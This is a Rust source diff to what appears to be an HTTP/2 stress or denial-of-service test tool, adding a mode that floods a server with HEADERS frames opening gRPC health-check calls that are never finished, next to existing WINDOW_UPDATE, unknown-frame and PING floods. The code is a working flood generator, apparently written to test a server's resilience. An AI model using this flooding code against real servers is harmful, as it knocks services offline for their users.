@@ -1,4 +1,4 @@
-//! The attackers: connections on which frames are sent without end, and without a request.
+//! The attackers: connections on which frames are sent without end, and without a whole request.
 
 use std::io::Read as _;
 
@@ -23,10 +23,12 @@ pub(crate) enum Frames {
     Unknown,
     /// PINGs, each of which the server answers.
     Ping,
+    /// HEADERS that open a call, which is never sent to its end.
+    Headers,
 }
 
 impl Frames {
-    pub(crate) const ALL: [Self; 3] = [Self::WindowUpdate, Self::Unknown, Self::Ping];
+    pub(crate) const ALL: [Self; 4] = [Self::WindowUpdate, Self::Unknown, Self::Ping, Self::Headers];
 
     /// As the command line has it.
     pub(crate) fn name(self) -> &'static str {
@@ -34,18 +36,37 @@ impl Frames {
             Self::WindowUpdate => "window-update",
             Self::Unknown => "unknown",
             Self::Ping => "ping",
+            Self::Headers => "headers",
         }
     }
 
-    /// The bytes of one.
-    fn frame(self) -> &'static [u8] {
-        match self {
+    /// The bytes of so many, on the next streams.
+    fn bytes(self, count: usize, next_stream: &mut u32) -> Vec<u8> {
+        let frame = match self {
             // The window of the connection overflows after two thousand million of them.
             Self::WindowUpdate => b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01",
             Self::Unknown => b"\0\0\0\x77\0\0\0\0\0",
             Self::Ping => b"\0\0\x08\x06\0\0\0\0\x0012345678",
-        }
+            Self::Headers => return requests(count, next_stream),
+        };
+        frame.repeat(count)
     }
+}
+
+/// HEADERS of so many calls of the health service, which anybody may make: POST, http, path and type of the content, in
+/// the codes of HPACK.
+fn requests(count: usize, next_stream: &mut u32) -> Vec<u8> {
+    let text = |text: &str| [&[u8::try_from(text.len()).unwrap_or(0)], text.as_bytes()].concat();
+    let path = text("/grpc.health.v1.Health/Check");
+    let headers = [&b"\x83\x86\x04"[..], &path, b"\x0f\x10", &text("application/grpc")].concat();
+    let mut bytes = Vec::new();
+    for _ in 0..count {
+        bytes.extend([0, 0, u8::try_from(headers.len()).unwrap_or(0), 1, 4]);
+        bytes.extend(next_stream.to_be_bytes());
+        bytes.extend(&headers);
+        *next_stream += 2;
+    }
+    bytes
 }
 
 /// Whom to flood, and how.
@@ -73,7 +94,6 @@ pub(crate) fn attack(options: &AttackerOptions) -> anyhow::Result<()> {
 
 /// One connection after the other, each until the server ends it.
 async fn flood(address: String, frames: Frames) {
-    let chunk = frames.frame().repeat(AT_A_TIME);
     loop {
         let Ok(stream) = TcpStream::connect(&address).await else { return };
         let (mut read, mut write) = stream.into_split();
@@ -82,8 +102,10 @@ async fn flood(address: String, frames: Frames) {
             while matches!(read.read(&mut bytes).await, Ok(1..)) {}
         };
         let send = async {
-            if write.write_all(PREFACE).await.is_ok() {
-                while write.write_all(&chunk).await.is_ok() {}
+            let mut next_stream = 1;
+            let mut chunk = PREFACE.to_vec();
+            while write.write_all(&chunk).await.is_ok() {
+                chunk = frames.bytes(AT_A_TIME, &mut next_stream);
             }
         };
         tokio::select! { () = drain => {}, () = send => {} }
